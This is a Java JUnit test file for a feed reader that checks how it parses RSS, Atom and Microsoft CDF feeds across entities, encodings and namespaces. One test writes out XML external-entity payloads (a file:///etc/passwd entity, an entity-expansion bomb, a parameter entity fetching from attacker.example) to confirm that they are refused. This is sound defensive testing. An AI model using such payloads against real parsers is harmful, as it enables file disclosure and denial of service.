package io.pactwire.ingest;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Feeds as the web serves them: read where their meaning is clear, refused where safety is at stake. */
class FeedReaderTest {
    private final FeedReader reader = new FeedReader();

    private static String rss(String declaration, String itemTitle) {
        return declaration + "<rss version=\"2.0\"><channel><title>News</title><link>https://news.example/</link>"
                + "<description>d</description><item><title>" + itemTitle + "</title><link>https://news.example/1</link>"
                + "<description>Text</description></item></channel></rss>";
    }

    private List<FeedReader.Item> read(byte[] bytes) throws FeedReader.FeedProblem {
        return reader.read(bytes, null).items();
    }

    private List<FeedReader.Item> read(String xml) throws FeedReader.FeedProblem {
        return read(xml.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void resolvesHtmlNamedEntitiesInsteadOfRejectingTheFeed() throws Exception {
        List<FeedReader.Item> items = read(rss("", "Caf&eacute;&nbsp;talks &mdash; &hellip; &amp; &lt;more&gt; &#233;&#x2014;"));
        assertThat(items).singleElement().extracting(FeedReader.Item::title)
                .isEqualTo("Café\u00A0talks — … & <more> é—");
    }

    @Test
    void readsAHexReferenceWithAnUpperCaseXAsHtmlDoes() throws Exception {
        assertThat(read(rss("", "&#X41;&#X2014;&#x42;")).get(0).title()).isEqualTo("A—B");
    }

    @Test
    void showsAnUnknownEntityOrABareAmpersandAsWritten() throws Exception {
        assertThat(read(rss("", "AT&T &bogus; & Co")).get(0).title()).isEqualTo("AT&T &bogus; & Co");
    }

    @Test
    void leavesEntitiesInCdataAsText() throws Exception {
        assertThat(read(rss("", "<![CDATA[R&amp;D &eacute;]]>")).get(0).title()).isEqualTo("R&amp;D &eacute;");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"UTF-16BE", "UTF-16LE", "UTF-32BE", "UTF-32LE"})
    void readsWideFeedsWithoutAByteOrderMark(String charset) throws Exception {
        byte[] bytes = rss("<?xml version=\"1.0\" encoding=\"" + charset + "\"?>", "Zürich ☃").getBytes(Charset.forName(charset));
        assertThat(FeedReader.looksLikeFeed(bytes)).isTrue();
        assertThat(read(bytes)).singleElement().extracting(FeedReader.Item::title).isEqualTo("Zürich ☃");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"UTF-16BE", "UTF-16LE", "UTF-32BE", "UTF-32LE", "UTF-8"})
    void readsFeedsWithAByteOrderMarkWhateverTheirDeclarationSays(String charset) throws Exception {
        byte[] bytes = ("\uFEFF" + rss("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>", "Zürich ☃")).getBytes(Charset.forName(charset));
        assertThat(FeedReader.looksLikeFeed(bytes)).isTrue();
        assertThat(read(bytes).get(0).title()).isEqualTo("Zürich ☃");
    }

    @Test
    void detectsAnUndeclaredEncoding() throws Exception {
        assertThat(read(rss("", "Zürich").getBytes(StandardCharsets.UTF_8)).get(0).title()).isEqualTo("Zürich");
        assertThat(read(rss("", "Zürich – €").getBytes(Charset.forName("windows-1252"))).get(0).title()).isEqualTo("Zürich – €");
    }

    @Test
    void believesTheDeclarationOnlyWhenTheBytesDecodeInIt() throws Exception {
        byte[] latin = rss("<?xml version=\"1.0\" encoding=\"utf-8\"?>", "Zürich").getBytes(StandardCharsets.ISO_8859_1);
        assertThat(read(latin).get(0).title()).isEqualTo("Zürich");
        byte[] koi8 = rss("<?xml version=\"1.0\" encoding=\"koi8-r\"?>", "Москва").getBytes(Charset.forName("KOI8-R"));
        assertThat(read(koi8).get(0).title()).isEqualTo("Москва");
        assertThat(reader.read(koi8, "application/rss+xml; charset=KOI8-R").items().get(0).title()).isEqualTo("Москва");
    }

    @Test
    void removesStrayControlCharactersRatherThanRejectingTheFeed() throws Exception {
        assertThat(read(rss("", "One\u001Dtwo\u0001 three&#x1D;")).get(0).title()).isEqualTo("Onetwo three");
    }

    @ParameterizedTest(name = "version {0}")
    @ValueSource(strings = {"0.91", "0.92", "0.93", "0.94", "2.00", "0.91fn", ""})
    void readsRss09xQuirks(String version) throws Exception {
        String root = version.isEmpty() ? "<rss>" : "<rss version=\"" + version + "\">";
        String xml = "<?xml version=\"1.0\"?><!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\""
                + " \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">" + root
                + "<channel><title>T</title><link>https://news.example/</link><description>d</description><language>en</language>"
                + "<item><title>K&ouml;ln</title><link>https://news.example/1</link></item></channel></rss>";
        assertThat(FeedReader.looksLikeFeed(xml.getBytes(StandardCharsets.UTF_8))).isTrue();
        assertThat(read(xml)).singleElement().satisfies(item -> {
            assertThat(item.title()).isEqualTo("Köln");
            assertThat(item.link()).isEqualTo("https://news.example/1");
        });
    }

    @Test
    void readsTheItemsOfAnRssWithoutChannelAndNotesIt() throws Exception {
        FeedReader.Feed feed = reader.read("<rss version=\"2.0\"><title>News</title><item><title>x</title></item><item><title>y</title></item></rss>"
                .getBytes(StandardCharsets.UTF_8), null);
        assertThat(feed.items()).extracting(FeedReader.Item::title).containsExactly("x", "y");
        assertThat(feed.note()).contains("RSS without <channel>");
    }

    @Test
    void anEmptyRssWithoutChannelHasNoItemsAndSaysWhy() throws Exception {
        for (String xml : List.of("<rss>\n</rss>", "<rss version=\"0.91\"/>",
                "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\"></rdf:RDF>",
                "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://my.netscape.com/rdf/simple/0.9/\"/>")) {
            FeedReader.Feed feed = reader.read(xml.getBytes(StandardCharsets.UTF_8), null);
            assertThat(feed.items()).as(xml).isEmpty();
            assertThat(feed.note()).as(xml).contains("RSS without <channel>");
        }
        assertThat(reader.read(rss("", "x").getBytes(StandardCharsets.UTF_8), null).note()).isEmpty();
    }

    @Test
    void readsTheItemsOfAnRss10WithoutChannel() throws Exception {
        String xml = "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\">"
                + "<item rdf:about=\"https://news.example/1\"><title>One</title><link>https://news.example/1</link></item></rdf:RDF>";
        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title, FeedReader.Item::link)
                .containsExactly("One", "https://news.example/1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://blogs.law.harvard.edu/tech/rss", "http://backend.userland.com/rss2.1", "urn:any"})
    void readsRssInAnyDefaultNamespace(String namespace) throws Exception {
        String xml = "<rss xmlns=\"" + namespace + "\" version=\"2.0\"><channel><title>T</title>"
                + "<item><title>One</title><link>https://news.example/1</link></item></channel></rss>";
        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title, FeedReader.Item::link)
                .containsExactly("One", "https://news.example/1");
    }

    @Test
    void readsRssWithAPrefixedRootAndKeepsOtherNamespacesApart() throws Exception {
        String xml = "<x:rss version=\"2.0\" xmlns:x=\"urn:made-up:rss\" xmlns:other=\"urn:made-up:other\"><x:channel>"
                + "<x:title>T</x:title><x:item><x:title>One</x:title><other:description>not this</other:description>"
                + "<x:description>the description</x:description><x:link>https://news.example/1</x:link></x:item>"
                + "</x:channel></x:rss>";
        assertThat(FeedReader.looksLikeFeed(xml.getBytes(StandardCharsets.UTF_8))).isTrue();
        assertThat(read(xml)).singleElement().satisfies(item -> {
            assertThat(item.title()).isEqualTo("One");
            assertThat(item.summaryHtml()).isEqualTo("the description");
            assertThat(item.link()).isEqualTo("https://news.example/1");
        });
    }

    @Test
    void readsAPrefixedRssWithoutVersionAndOneWhoseChannelDeclaresAnotherDefaultNamespace() throws Exception {
        String xml = "<x:rss xmlns:x=\"urn:made-up:rss\"><x:channel xmlns=\"urn:made-up:other\"><x:title>T</x:title>"
                + "<x:item><title>not RSS's</title><x:title>One</x:title></x:item></x:channel></x:rss>";
        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title).isEqualTo("One");
    }

    @Test
    void readsAnRssChannelThatLostItsRssRoot() throws Exception {
        String xml = "<channel><title>T</title><item><title>One</title><link>https://news.example/1</link>"
                + "<description>Text</description><pubDate>Tue, 02 Jan 2024 10:00:00 GMT</pubDate></item></channel>";
        assertThat(FeedReader.looksLikeFeed(xml.getBytes(StandardCharsets.UTF_8))).isTrue();
        assertThat(read(xml)).singleElement().satisfies(item -> {
            assertThat(item.title()).isEqualTo("One");
            assertThat(item.link()).isEqualTo("https://news.example/1");
            assertThat(item.summaryHtml()).isEqualTo("Text");
            assertThat(item.publishedAt()).isEqualTo("2024-01-02T10:00:00Z");
        });
    }

    @Test
    void readsMicrosoftsChannelDefinitionFormat() throws Exception {
        String cdf = "<CHANNEL HREF=\"https://news.example/\" BASE=\"https://news.example/stories/\">\n"
                + "  <TITLE>Example</TITLE><ABSTRACT>All the news</ABSTRACT>\n"
                + "  <ITEM HREF=\"port.html\" LASTMOD=\"2004-04-06T23:05:43-05:00\"><TITLE>Port opens</TITLE>"
                + "<ABSTRACT>The port opened.</ABSTRACT></ITEM>\n"
                + "  <CHANNEL><ITEM HREF=\"https://other.example/2\"><TITLE>In a sub-channel</TITLE></ITEM></CHANNEL>\n"
                + "</CHANNEL>";
        assertThat(FeedReader.looksLikeFeed(cdf.getBytes(StandardCharsets.UTF_8))).isTrue();
        List<FeedReader.Item> items = read(cdf);
        assertThat(items).extracting(FeedReader.Item::title, FeedReader.Item::link, FeedReader.Item::summaryHtml)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("Port opens", "https://news.example/stories/port.html", "The port opened."),
                        org.assertj.core.groups.Tuple.tuple("In a sub-channel", "https://other.example/2", null));
        assertThat(items.get(0).publishedAt()).isEqualTo("2004-04-07T04:05:43Z");
    }

    @Test
    void readsTheItemsOfAnAtomFeedAsEntries() throws Exception {
        String atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>T</title>"
                + "<entry><title>An entry</title><id>urn:1</id></entry><item><title>An item</title><id>urn:2</id></item></feed>";
        assertThat(read(atom)).extracting(FeedReader.Item::title).containsExactly("An entry", "An item");
        String atom03 = "<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"><item><title>Old</title></item></feed>";
        assertThat(read(atom03)).extracting(FeedReader.Item::title).containsExactly("Old");
    }

    @Test
    void stillRefusesADoctypeThatDeclaresEntities() {
        String xml = "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + rss("", "&e;");
        assertThatThrownBy(() -> read(xml)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
        String bomb = "<!DOCTYPE rss [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>" + rss("", "&b;");
        assertThatThrownBy(() -> read(bomb)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
        String rdf = "<!DOCTYPE rdf:RDF [<!ENTITY % lat1 PUBLIC \"-//W3C//ENTITIES Latin 1//EN\" \"http://attacker.example/x.ent\">%lat1;]>"
                + "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\"/>";
        assertThat(FeedReader.looksLikeFeed(rdf.getBytes(StandardCharsets.UTF_8))).as("refused as a feed, not passed over").isTrue();
        assertThatThrownBy(() -> read(rdf)).isInstanceOf(FeedReader.FeedProblem.class).hasMessage(FeedText.DOCTYPE_REFUSED);
    }

    @Test
    void anExternalDtdIsNeverRead(@TempDir Path dir) throws Exception {
        Path dtd = dir.resolve("evil.dtd");
        Files.writeString(dtd, "<!ENTITY secret \"TOP-SECRET\">");
        String xml = "<!DOCTYPE rss SYSTEM \"" + dtd.toUri() + "\">" + rss("", "&secret;");
        assertThat(read(xml).get(0).title()).isEqualTo("&secret;");
    }

    @Test
    void readsAMinimalRss091ChannelWithoutLanguageOrDescription() throws Exception {
        String xml = "<rss version=\"0.91\"><channel><title>T</title><item><title>One</title>"
                + "<link>https://news.example/1</link><description>Text</description></item></channel></rss>";
        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title).isEqualTo("One");
    }

    @Test
    void aDoctypeInACommentOrInCdataIsNoDoctype() throws Exception {
        String xml = "<!-- says \"<!DOCTYPE\" -->" + rss("", "<![CDATA[ <!DOCTYPE ]]>");
        assertThat(read(xml).get(0).title()).isEqualTo("<!DOCTYPE");
    }

    @Test
    void readsRssInUserLandsOldNamespace() throws Exception {
        String xml = "<rss xmlns=\"http://backend.userland.com/rss2\" version=\"2.0\"><channel><title>T</title>"
                + "<link>https://news.example/</link><description>d</description><item><title>One</title></item></channel></rss>";
        assertThat(read(xml)).singleElement().extracting(FeedReader.Item::title).isEqualTo("One");
    }

    @Test
    void saysWhyAFeedIsNotWellFormed() {
        assertThatThrownBy(() -> read("<rss version=\"2.0\"><channel><item><title>x</item></channel></rss>"))
                .isInstanceOf(FeedReader.FeedProblem.class).hasMessageStartingWith("not a valid RSS or Atom feed: Invalid XML")
                .hasMessageContaining("title");
        assertThatThrownBy(() -> read("<opml version=\"2.0\"><head><title>x</title></head><body/></opml>"))
                .isInstanceOf(FeedReader.FeedProblem.class)
                .hasMessage("not a valid RSS or Atom feed: no RSS or Atom parser for its root element <opml> and its namespace");
    }

    @Test
    void readsAtomWithHtmlEntitiesToo() throws Exception {
        String atom = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>T</title><id>urn:t</id><updated>2024-01-01T00:00:00Z</updated>"
                + "<entry><title>S&atilde;o Paulo</title><id>urn:1</id><link href=\"https://news.example/sp\"/>"
                + "<updated>2024-01-02T00:00:00Z</updated><content type=\"html\">&lt;p&gt;Text&lt;/p&gt;</content></entry></feed>";
        assertThat(read(atom)).singleElement().satisfies(item -> {
            assertThat(item.title()).isEqualTo("São Paulo");
            assertThat(item.contentHtml()).isEqualTo("<p>Text</p>");
        });
    }

    @Test
    void readsAnAtomFeedInNoNamespaceOrInADraftsNamespaceAsAtom() throws Exception {
        String entry = "<title>Example Atom</title><entry><title>Port opens</title><link href=\"https://example.org/port\"/>"
                + "<id>https://example.org/port</id><updated>2024-03-01T10:00:00Z</updated></entry></feed>";
        assertThat(read("<feed version=\"0.3\" xmlns=\"http://purl.org/echo/\">" + entry))
                .singleElement().extracting(FeedReader.Item::title, FeedReader.Item::link)
                .containsExactly("Port opens", "https://example.org/port");
        assertThat(read("<?xml version=\"1.0\"?><feed xmlns:bogus=\"http://dom.test/ns\">" + entry))
                .singleElement().extracting(FeedReader.Item::title).isEqualTo("Port opens");
        assertThat(FeedReader.inAtomNamespace("<feed xmlns='http://www.w3.org/2005/Atom'>" + entry))
                .isEqualTo("<feed xmlns='http://www.w3.org/2005/Atom'>" + entry);
    }

    @Test
    void readsAtom03Base64ContentIndentedOverLines() throws Exception {
        String feed = "<feed version=\"0.3\" xmlns=\"http://purl.org/atom/ns#\"><title>T</title><entry>"
                + "<title>Port opens</title><link rel=\"alternate\" href=\"https://example.org/port\"/>"
                + "<content type=\"text/html\" mode=\"base64\">\n    RXhhbXBsZSA8Yj5B\n    dG9tPC9iPg==\n  </content></entry></feed>";
        assertThat(read(feed)).singleElement().extracting(FeedReader.Item::contentHtml).isEqualTo("Example <b>Atom</b>");
    }
}
